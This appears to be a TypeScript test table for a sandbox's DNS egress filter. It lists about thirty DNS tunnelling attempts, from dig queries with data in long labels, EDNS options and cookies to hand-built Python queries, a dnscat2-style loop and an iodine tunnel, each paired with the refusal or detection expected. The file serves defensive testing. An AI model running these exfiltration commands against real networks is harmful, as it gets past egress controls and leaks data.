import type { Open, Row } from '../case.ts'
import { curl, dig, hex, python } from './script.ts'

const refused = 'names: `REFUSED`, never forwarded'
const rebuilt = 'names: only the question and a bare OPT are sent on'
const types = ['TXT', 'NULL', 'CNAME', 'MX', 'SRV', 'ANY', 'AAAA', 'HTTPS', 'TYPE65280']

const tunnel: Open = {
  result: 'told',
  why: 'whoever runs the name servers of an allowed zone can be told things by its names; the detection is `exfiltration-attempt` (high)',
  advice: 'exact names in place of wildcards',
}

export const dnsTunnel: Row = {
  row: 1,
  title: 'DNS tunnels',
  cases: [
    {
      id: 'dns-long-labels',
      technique: 'labels of 63 bytes under a denied zone (dig)',
      attempt: `L=$(printf 'a%.0s' {1..63}); ${dig('$L.$L.$HOST')}`,
      by: refused,
    },
    {
      id: 'dns-many-labels',
      technique: '40 labels under a denied zone (dig)',
      attempt: dig(`$(for i in {1..40}; do printf 'x%s.' $i; done)$HOST`),
      by: refused,
    },
    ...types.map((type) => ({
      id: `dns-type-${type.toLowerCase()}`,
      technique: `${type} query under a denied zone (dig)`,
      attempt: dig(`$HOST ${type}`),
      by: refused,
    })),
    {
      id: 'dns-reverse',
      technique: 'data in a reverse name (PTR under in-addr.arpa)',
      attempt: dig('$T.18.11.in-addr.arpa PTR'),
      twin: dig('$HOST PTR'),
      by: refused,
    },
    {
      id: 'dns-mixed-case',
      technique: 'data in the case of letters (0x20) under a denied zone',
      attempt: dig('${HOST^^}'),
      by: refused,
    },
    {
      id: 'dns-binary-labels',
      technique: 'labels of arbitrary bytes under a denied zone',
      attempt: dig(String.raw`"$T\\000\\255\\001.$HOST"`),
      twin: dig('$HOST'),
      by: refused,
    },
    {
      id: 'dns-no-recursion',
      technique: 'query without the wish for recursion, DNSSEC flags set',
      attempt: dig('+norecurse +dnssec +cdflag +adflag $HOST'),
      by: refused,
    },
    {
      id: 'dns-resolver-library',
      technique: 'name resolved by the C library (getent)',
      attempt: 'getent hosts $HOST',
      by: refused,
    },
    {
      id: 'dns-search-list',
      technique: 'zone put in front by the search list (LOCALDOMAIN)',
      attempt: 'LOCALDOMAIN=$ZONE RES_OPTIONS=ndots:3 getent hosts $T',
      by: refused,
    },
    {
      id: 'dns-by-fetch',
      technique: 'data in the name of a URL (curl)',
      attempt: curl('http://$HOST/'),
      by: refused,
    },
    {
      id: 'dns-edns-option',
      technique: 'data in an EDNS option of a query for an allowed name',
      attempt: dig(`good.example.com +ednsopt=65001:${hex('$T')}`),
      twin: dig('+bufsize=1232 $HOST'),
      by: rebuilt,
      silent: 'an allowed query, without the option',
    },
    {
      id: 'dns-client-subnet',
      technique: 'data as client subnet of a query for an allowed name',
      attempt: dig(`good.example.com +ednsopt=8:00028000${hex('$T$T')}`),
      twin: dig('+subnet=0/0 $HOST'),
      by: rebuilt,
      silent: 'an allowed query, without the option',
    },
    {
      id: 'dns-cookie',
      technique: 'data as DNS cookie of a query for an allowed name',
      attempt: dig(`good.example.com +cookie=${hex('$T')}`),
      twin: dig('+cookie $HOST'),
      by: rebuilt,
      silent: 'an allowed query, without the option',
    },
    {
      id: 'dns-padding',
      technique: 'data as EDNS padding of a query for an allowed name',
      attempt: dig(`good.example.com +ednsopt=12:${hex('$T')}`),
      twin: dig('+padding=128 $HOST'),
      by: rebuilt,
      silent: 'an allowed query, without the option',
    },
    {
      id: 'dns-second-question',
      technique: 'second question behind an allowed one',
      attempt: python(
        `ask(query('good.example.com', more=name_wire(HOST) + b'\\0\\x10\\0\\1', count=2))`,
      ),
      twin: python(`ask(query(HOST))`),
      by: rebuilt,
      silent: 'the message is no query that is understood: an error, no event',
    },
    {
      id: 'dns-more-records',
      technique: 'records of data beside an allowed question',
      attempt: python(`
record = name_wire('x') + struct.pack('!HHIH', 16, 1, 0, len(DATA) + 1) + bytes([len(DATA)]) + DATA
ask(query('good.example.com', more=record, records=(0, 0, 1)))`),
      twin: python(`ask(query(HOST))`),
      by: rebuilt,
      silent: 'an allowed query, without the record; or an error',
    },
    {
      id: 'dns-trailing-bytes',
      technique: 'bytes behind the end of an allowed query',
      attempt: python(`ask(query('good.example.com', more=DATA))`),
      twin: python(`ask(query(HOST))`),
      by: rebuilt,
      silent: 'an allowed query, without the bytes; or an error',
    },
    ...[
      ['update', 0x2800],
      ['notify', 0x2000],
      ['status', 0x1000],
      ['stateful', 0x3000],
    ].map(([name, flags]) => ({
      id: `dns-opcode-${name}`,
      technique: `${name} message with data about an allowed name`,
      attempt: python(`ask(query('good.example.com', flags=${flags}, more=DATA))`),
      twin: python(`ask(query(HOST))`),
      by: 'names: other opcodes are answered with an error',
      silent: 'an error, no event',
    })),
    {
      id: 'dns-class-chaos',
      technique: 'query of another class (CHAOS)',
      attempt: dig('CH TXT $HOST'),
      twin: dig('IN TXT $HOST'),
      by: refused,
    },
    {
      id: 'dns-zone-transfer',
      technique: 'zone transfer (AXFR, IXFR)',
      attempt: `dig +tries=1 +time=8 AXFR $HOST; dig +tries=1 +time=8 IXFR=1 $HOST; exit 9`,
      twin: dig('SOA $HOST'),
      by: refused,
    },
    {
      id: 'dns-conversation',
      technique: 'a file in 40 queries of many types, as dnscat2 does',
      attempt: python(`
for number, kind in enumerate([16, 5, 15, 1] * 10):
    name = '%02x%s.%s' % (number, os.urandom(24).hex(), HOST)
    s = made(kind=socket.SOCK_DGRAM)
    s.sendto(query(name, kind), (resolver(), 53))
    refused = s.recv(4096)[3] & 15 == 5
raise SystemExit(9 if refused else 0)`),
      twin: python(`ask(query(HOST, 16))`),
      by: refused,
    },
    {
      id: 'dns-iodine',
      technique: 'IP over DNS by iodine',
      as: ['root'],
      attempt: 'timeout 5 iodine -f -r -P secret $HOST; exit 9',
      twin: dig('$HOST NULL'),
      by: refused,
    },
    {
      id: 'dns-tunnel-allowed-zone',
      technique: '400 names of 100 random digits under an allowed zone',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
for number in range(400):
    name = '%s.%s.%s.allow.example.com' % (os.urandom(25).hex(), os.urandom(25).hex(), T)
    s.sendto(query(name, 16), (resolver(), 53))
    s.recv(4096)`),
      twin: python(`ask(query(HOST))`),
      by: 'told: `exfiltration-attempt` by volume, length and entropy of the names under a zone',
      user: tunnel,
      root: tunnel,
    },
  ],
}
